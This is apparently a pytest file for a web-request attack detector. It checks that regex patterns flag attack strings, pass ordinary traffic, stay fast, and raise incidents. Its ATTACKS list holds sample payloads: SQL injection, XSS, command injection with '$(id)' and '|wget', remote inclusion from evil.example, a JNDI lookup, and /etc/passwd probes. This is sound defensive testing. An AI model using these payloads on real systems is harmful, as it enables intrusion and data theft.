"""Requests that look like attacks are told by what they look like; those of people are not."""

import time
from typing import Any

import numpy as np
import pytest

from amiss.data import HOUR, MINUTE, SECOND, Incident, Records
from amiss.detecting.suspicious import LONGEST, PATTERNS, found
from amiss.detectors.patterns import Patterns
from amiss.memory import dump, load
from amiss.pipeline import Pipeline
from made import Chance
from test_rule import MONDAY

ALL = tuple(PATTERNS)
ATTACKS = {
    "sql-injection": [
        "/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--",
        "/login?user=admin'+or+'1'='1",
        "/item?id=1 and 7=7",
        "/item?id=1;drop table users",
        "/item?id=sleep(9)",
    ],
    "cross-site-scripting": [
        "/search?q=<script>alert(1)</script>",
        "/search?q=%253Cscript%253Ealert(1)",
        "/a?b=javascript:alert(1)",
        "/a?b=%22%20onerror=alert(1)",
    ],
    "path-traversal": ["/static/../../etc/x", "/a?file=..%2f..%2fx", "/a\\..\\..\\b"],
    "command-injection": [
        "/ping?host=1.1.1.1;cat /tmp/x",
        "/ping?host=$(id)",
        "/cgi?x=|wget http://x",
    ],
    "file-inclusion": ["/?page=php://filter/x", "/?page=http://evil.example/shell.txt"],
    "template-injection": ["${jndi:ldap://x}", "/?q={{7*7}}", "User ${ENV:path}"],
    "sensitive-file": ["/.env", "/.git/config", "/backup.sql", "/etc/passwd", "/site.bak"],
    "probe": ["/wp-login.php", "/phpmyadmin/index.php", "/actuator/env", "/cgi-bin/test"],
    "scanner": ["sqlmap/1.7#stable", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source"],
    "protocol-abuse": ["/a?b=%0d%0aSet-Cookie:x=1", "\\x16\\x03\\x01", "/a%00.png"],
}
PEOPLE = [
    "GET /api/users?id=42&sort=name HTTP/1.1",
    "/search?q=select+a+union+or+a+club",
    "/search?q=drop+in+centre%3B+opening+hours",
    "/products/cat/shoes?id=5&order=asc&ls=1",
    "/docs/catalogue.html#install",
    "/orders/2026-03-02?from=a&to=b",
    "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15",
    "https://example.org/a/b.php?x=1&id=7",
    "{'level': 'debug', 'msg': 'cache and 3 = 4 others'}",
    "O'Brien and Sons -- since 1907",
    "connect to db at 10:30; shutting down",
    "debug",
    "/images/logo.png?v=1.2.3",
    "a=1&b=2&sh=3",
    "/blog/what-is-sql-injection",
]


@pytest.mark.parametrize("name", ALL)
def test_each_pattern_finds_what_it_is_about(name: str) -> None:
    for text in ATTACKS[name]:
        assert name in found(text, ALL), text


@pytest.mark.parametrize("text", PEOPLE)
def test_what_people_ask_for_is_nothing(text: str) -> None:
    assert found(text, ALL) == ()


@pytest.mark.parametrize("name", ALL)
def test_no_text_takes_long(name: str) -> None:
    """Twice as much of whatever a pattern may begin with takes no more than a few times as long."""
    starts = [
        "<",
        "'",
        " ",
        "select ",
        "union ",
        "or 1",
        "${",
        "../",
        ";",
        "<img ",
        "{{",
        "on",
        ".",
    ]
    starts += ["/", "=http://", "<script", "select from ", "%", "a"]
    for start in starts:
        text = start * LONGEST
        began = time.process_time()
        found(text, (name,))
        assert time.process_time() - began < 1.0, start  # s; 100 times what is seen


def test_a_name_that_there_is_not_is_said_in_a_sentence() -> None:
    with pytest.raises(ValueError, match="there is no pattern 'sqli'; known: sql-injection, "):
        Patterns(find=("sqli",))


def requests(paths: list[str], start: int, client: str = "10.0.0.7") -> Records:
    n = len(paths)
    return Records(
        start + 2 * SECOND * np.arange(n),
        np.full(n, "request"),
        np.full(n, np.nan),
        {
            "path": np.array(paths),
            "client": np.full(n, client),
            "host": np.full(n, "web-1"),
        },
        text=np.array([f"GET {path}" for path in paths]),
    )


def run(batches: list[Records], **said: Any) -> list[Incident]:
    pipeline = Pipeline.model_validate(
        {
            "name": "web",
            "source": {"type": "host"},
            "features": {"type": "each", "subject": ["client"]},
            "detectors": [{"type": "patterns", "severity": "high", **said}],
        }
    )
    states, told = pipeline.init(), []
    for batch in batches:
        states, outcome = pipeline.step(load(dump(states)), batch)
        told += outcome.incidents
    return told


USUAL = [f"/item/{int(9 * x)}" for x in Chance(1).uniform(300)]


def test_an_attack_is_told_at_once_with_what_it_looks_like() -> None:
    attack = ["/item?id=1%27%20union%20select%20password%20from%20users"]
    [opened] = run([requests(USUAL, MONDAY), requests(attack, MONDAY + HOUR)])
    assert opened.severity == "high"
    assert opened.members[0].rules == ("suspicious request",)
    assert opened.sentence.startswith(
        "web-1: a request of 10.0.0.7 with SQL injection in path (union select): "
        '"GET /item?id=1%27%20union'
    )
    assert not run([requests(USUAL, MONDAY)])


def test_of_one_client_the_first_is_enough_for_a_while() -> None:
    batches = [requests(USUAL, MONDAY)]
    batches += [requests(["/.env"], MONDAY + HOUR + i * 20 * MINUTE) for i in range(6)]
    told = run(batches, name="Attack")
    assert len({i.id for i in told}) == 2
    assert told[0].members[0].rules == ("Attack",)
    others = [requests(["/.env"], MONDAY + 2 * HOUR, client=f"10.0.0.{i}") for i in range(3)]
    assert run([requests(USUAL, MONDAY), *others])[0].system == 'host="web-1"'


def test_only_the_fields_that_are_named_are_looked_at() -> None:
    attack = requests(["/.env"], MONDAY + HOUR)
    assert not run([requests(USUAL, MONDAY), attack], fields=["client"])
    assert run([requests(USUAL, MONDAY), attack], fields=["text"])
    assert not run([requests(USUAL, MONDAY), attack], find=["scanner"])
